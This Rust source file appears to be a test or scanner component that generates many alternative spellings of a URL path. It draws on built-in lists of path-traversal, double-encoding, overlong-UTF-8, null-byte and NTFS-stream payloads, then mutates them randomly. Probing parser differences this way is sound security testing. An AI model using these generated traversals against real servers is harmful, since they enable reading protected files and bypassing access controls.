//! Other spellings of a path, generated: each mutation at each place by itself, then random
//! sequences of mutations.

use std::collections::BTreeSet;

use crate::readings::random::Dice;

/// Strings that some reader takes for one slash, or for a slash with something that it ignores.
const SLASHES: [&str; 33] = [
    "//",
    "///",
    "/;/",
    "/;x=y/",
    "/(S(x))/",
    "/(A(x)f(y))/",
    "/%28S%28x%29)/",
    "/./",
    "/%2e/",
    "/.;/",
    "/%2e;x/",
    "/x/../",
    "/x/%2e%2e/",
    "/x/.%2e/",
    "/x/..;/",
    "/x/..;y=z/",
    "/x/%2e%2e;/",
    "/x%2f..%2f",
    "/x/..%2f",
    "/x/..%252f",
    "/x/%252e%252e/",
    "/x/..%5c",
    "/x/..\\",
    "\\",
    "%5c",
    "%255c",
    "%2f",
    "%2F",
    "%252f",
    "%c0%af",
    "%e0%80%af",
    "%ef%bc%8f",
    "%u002f",
];

/// Strings that some reader ignores at the end of a segment, or takes for the end of the path.
const ENDS: [&str; 47] = [
    ";",
    ";x",
    ";x=y",
    ";jsessionid=1",
    ";a=b;c=d",
    ";%2f",
    "%3b",
    "%3bx",
    "%253b",
    ".",
    "..",
    "...",
    "%2e",
    "%2e%2e",
    "%20",
    "%2520",
    "+",
    ".%20",
    "%20.",
    "%a0",
    "%c2%a0",
    "%e3%80%80",
    "%00",
    "%00x",
    "%00.html",
    "%2500",
    "%c0%80",
    "%u0000",
    "%3f",
    "%3fx",
    "%253f",
    "%c0%bf",
    "%ef%bc%9f",
    "%23",
    "%23x",
    "%2523",
    "%7f",
    "%0d%0a",
    "::$DATA",
    ":$I30:$INDEX_ALLOCATION",
    "%3A%3a%24data",
    "/(S(x))",
    ":",
    "%",
    "%zz",
    "%e2%80%8b",
    "%ef%bb%bf",
];

/// Strings that some reader takes for the way up to the root, from a directory below it.
const UPS: [&str; 36] = [
    "/../",
    "/%2e%2e/",
    "/.%2e/",
    "/..;/",
    "/..;x=y/",
    "/%2e%2e;/",
    "/..%3b/",
    "/..%3bx/",
    "/;/../",
    ";x/../",
    "/..//",
    "/..%2f",
    "%2f..%2f",
    "/..%252f",
    "%252f..%252f",
    "/..%25252f",
    "/%252e%252e/",
    "/%25252e%25252e/",
    "/%%32%65%%32%65/",
    "/..%5c",
    "%5c..%5c",
    "/..%255c",
    "/..\\",
    "\\..\\",
    "/..%00/",
    "/..%20/",
    "/%20../",
    "/..%c0%af",
    "/..%e0%80%af",
    "/%c0%ae%c0%ae/",
    "/%e0%80%ae%e0%80%ae/",
    "/..%ef%bc%8f",
    "/%ef%bc%8e%ef%bc%8e/",
    "/%u002e%u002e/",
    "/..%u002f",
    "/x/..%2f..%2f",
];

type Path = Vec<u8>;

/// Other spellings of this path, and of ways to it from an open directory: those with one mutation,
/// and this many random ones. No duplicates.
pub(crate) fn spellings(plain: &str, open: &str, by_chance: usize, seed: u64) -> Vec<Path> {
    let (mut all, mut known) = (Vec::new(), BTreeSet::from([plain.as_bytes().to_vec()]));
    let mut add = |path: Path| {
        if path.len() < 400 && known.insert(path.clone()) {
            all.push(path);
        }
    };
    let file = plain.trim_start_matches('/');
    let ways = UPS.map(|up| format!("{open}{up}{file}").into_bytes());
    ways.iter().cloned().for_each(&mut add);
    singles(plain.as_bytes()).into_iter().for_each(&mut add);
    let mut dice = Dice(seed);
    for _ in 0..by_chance {
        let mut path = match dice.roll(2) {
            0 => plain.as_bytes().to_vec(),
            _ => dice.one_of(&ways).clone(),
        };
        for _ in 0..=dice.roll(3) {
            path = mutated(&mut dice, &path);
        }
        add(path);
    }
    all
}

/// Each mutation at each place.
fn singles(path: &[u8]) -> Vec<Path> {
    let mut all = Vec::new();
    for at in 0..path.len() {
        for letter in letters(path[at]) {
            all.push(put(path, at, 1, letter.as_bytes()));
        }
    }
    for at in slashes(path) {
        for slash in SLASHES {
            all.push(put(path, at, 1, slash.as_bytes()));
        }
    }
    for at in ends(path) {
        for end in ENDS {
            all.push(put(path, at, 0, end.as_bytes()));
        }
        for byte in (0..=0x20).chain([0x7f]) {
            all.push(put(path, at, 0, format!("%{byte:02x}").as_bytes()));
        }
        for byte in [0, 1, b'\t', b' ', 0x1f, 0x7f, 0x80, 0xff] {
            all.push(put(path, at, 0, &[byte]));
        }
    }
    let whole = ["%", "%25", "%2525"].map(|sign| encoded(path, sign));
    all.extend(whole);
    all.push(path.to_ascii_uppercase());
    all
}

fn mutated(dice: &mut Dice, path: &[u8]) -> Path {
    let (slashes, ends) = (slashes(path), ends(path));
    match dice.roll(8) {
        0..=2 if !slashes.is_empty() => put(
            path,
            *dice.one_of(&slashes),
            1,
            dice.one_of(&SLASHES).as_bytes(),
        ),
        3 | 4 => put(path, *dice.one_of(&ends), 0, dice.one_of(&ENDS).as_bytes()),
        5 => {
            let byte = dice.roll(0x21);
            put(
                path,
                *dice.one_of(&ends),
                0,
                format!("%{byte:02x}").as_bytes(),
            )
        }
        _ => {
            // The first stays a slash, or few servers would accept it.
            let at = 1 + dice.roll(path.len() - 1);
            put(path, at, 1, dice.one_of(&letters(path[at])).as_bytes())
        }
    }
}

/// Other spellings of one byte.
fn letters(byte: u8) -> Vec<String> {
    let mut all = vec![
        format!("%{byte:02x}"),
        format!("%{byte:02X}"),
        format!("%25{byte:02x}"),
        format!("%2525{byte:02x}"),
        // The digits of the percent encoding, encoded.
        format!("%%{:02x}{:02x}", b'0' + (byte >> 4), byte & 0xf),
        format!("%u00{byte:02x}"),
        // Overlong UTF-8 with two, three and four bytes.
        format!("%{:02x}%{:02x}", 0xc0 | byte >> 6, 0x80 | byte & 0x3f),
        format!("%e0%{:02x}%{:02x}", 0x80 | byte >> 6, 0x80 | byte & 0x3f),
        format!("%f0%80%{:02x}%{:02x}", 0x80 | byte >> 6, 0x80 | byte & 0x3f),
    ];
    if byte.is_ascii_graphic() {
        // Full-width forms: U+FF01 to U+FF5E.
        let wide = char::from_u32(0xfee0 + u32::from(byte)).unwrap();
        let bytes = wide.to_string();
        all.push(bytes.bytes().map(|b| format!("%{b:02x}")).collect());
        all.push(bytes);
    }
    if byte.is_ascii_alphabetic() {
        all.push(char::from(byte ^ 0x20).to_string());
        all.push(format!("%{:02x}", byte ^ 0x20));
        let place = u32::from(byte.to_ascii_lowercase() - b'a');
        for first in [0x24d0, 0x1d41a] {
            let letter = char::from_u32(first + place).unwrap().to_string();
            all.push(letter.bytes().map(|b| format!("%{b:02x}")).collect());
        }
    }
    all
}

/// Every byte except the slashes.
fn encoded(path: &[u8], sign: &str) -> Path {
    let each = |byte: &u8| match byte {
        b'/' => "/".to_owned(),
        byte => format!("{sign}{byte:02x}"),
    };
    path.iter().map(each).collect::<String>().into_bytes()
}

fn slashes(path: &[u8]) -> Vec<usize> {
    (0..path.len()).filter(|at| path[*at] == b'/').collect()
}

/// Where segments begin and end, and the middle of each.
fn ends(path: &[u8]) -> Vec<usize> {
    let mut all = vec![path.len()];
    for at in slashes(path) {
        let length = path[at + 1..].iter().position(|b| *b == b'/');
        let length = length.unwrap_or(path.len() - at - 1);
        all.extend([at + 1, at + 1 + length / 2]);
        if at > 0 {
            all.push(at);
        }
    }
    all
}

fn put(path: &[u8], at: usize, instead_of: usize, what: &[u8]) -> Path {
    [&path[..at], what, &path[at + instead_of..]].concat()
}
